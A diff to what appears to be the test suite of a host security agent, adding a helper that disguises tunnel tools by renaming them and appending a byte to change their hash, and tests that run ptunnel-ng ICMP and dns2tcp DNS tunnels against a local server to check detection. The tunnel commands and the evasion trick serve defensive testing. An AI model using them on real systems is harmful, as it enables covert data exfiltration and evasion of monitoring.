@@ -470,6 +470,26 @@ def netns_server(net, tmp_path):
         p.wait()
 
 
+def disguise(src: str, dst: Path) -> None:
+    """A renamed copy with a byte appended: neither its name nor its sha256 is known; only what it
+    does can give it away."""
+    shutil.copy(src, dst)
+    with open(dst, "ab") as f:
+        f.write(b"\0")
+
+
+def test_a_renamed_tunnel_tool_is_known_by_its_hash(agents, episode, tmp_path):
+    _, out, _ = agents
+    renamed = tmp_path / "cache-warmer"
+    shutil.copy(shutil.which("ptunnel-ng"), renamed)
+    episode.popen([str(renamed), "--help"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    assert wait_frozen(episode)
+    recs = wait_records(out, episode, lambda rs: "tunnel_tool_started" in alerts(rs))
+    assert alerts(recs)[0] == "tunnel_tool_started"
+    (ex,) = [r for r in recs if r["type"] == "exec" and r["filename"] == str(renamed)]
+    assert ex["proc"]["comm"] == "cache-warmer"
+
+
 SEND_THROUGH = r"""
 import socket, sys, time
 deadline = time.monotonic() + 10
@@ -495,15 +515,13 @@ def test_icmp_tunnel_with_ptunnel_ng_renamed(agents, episode, net, netns_server,
     _, out, _ = agents
     netns_server("ptunnel-ng", f"-r{net.addr}", "-R22", "-v-1")  # options take attached values
     worker = tmp_path / "worker"
-    shutil.copy(shutil.which("ptunnel-ng"), worker)
+    disguise(shutil.which("ptunnel-ng"), worker)
     (tmp_path / "send.py").write_text(SEND_THROUGH)
     with shell_attack(episode, f"{worker} -p{net.addr} -l2299 -r{net.addr} -R22 -v-1 & "
                                f"{sys.executable} {tmp_path / 'send.py'} 2299; kill $!"):
         assert wait_frozen(episode, timeout=20)
         recs = wait_records(out, episode, lambda rs: "icmp_tunnel" in alerts(rs))
         assert {"raw_socket_opened", "icmp_tunnel"} <= set(alerts(recs))
-        assert "tunnel_tool_started" in alerts(wait_records(out, episode, lambda rs: "tunnel_tool_started" in alerts(
-            rs)))  # renamed, and still known: by the sha256 of the node's own ptunnel-ng
         pkts = [r for r in recs if r["type"] == "packet" and r["protocol"] == "icmp"]
         assert pkts and pkts[0]["address"] == net.addr and max(x["len"] for x in pkts) > 128
         assert response(recs)["outcome"] == "frozen"
@@ -517,15 +535,13 @@ def test_dns_tunnel_with_dns2tcp_renamed(agents, episode, net, netns_server, tmp
                     f"resources = ssh:{net.addr}:22\n")
     netns_server("dns2tcpd", "-F", "-f", str(conf), udp_port=53)
     helper = tmp_path / "resolver-helper"
-    shutil.copy(shutil.which("dns2tcpc"), helper)
+    disguise(shutil.which("dns2tcpc"), helper)
     (tmp_path / "send.py").write_text(SEND_THROUGH)
     with shell_attack(episode, f"{helper} -z t.example.org -r ssh -l 2298 {net.addr} & "
                                f"{sys.executable} {tmp_path / 'send.py'} 2298; kill $!"):
         assert wait_frozen(episode, timeout=20)
         recs = wait_records(out, episode, lambda rs: "dns_tunnel_query" in alerts(rs))
         assert {"dns_to_unexpected_server", "dns_tunnel_query"} <= set(alerts(recs))
-        assert "tunnel_tool_started" in alerts(wait_records(out, episode, lambda rs: "tunnel_tool_started" in alerts(
-            rs)))  # by the sha256 of the node's own dns2tcpc
         names = [r["dns"].get("qname", "") for r in recs if r["type"] == "packet" and r.get("port") == 53]
         assert any(n.endswith("t.example.org") and len(n) > 60 for n in names)
         assert response(recs)["outcome"] == "frozen"
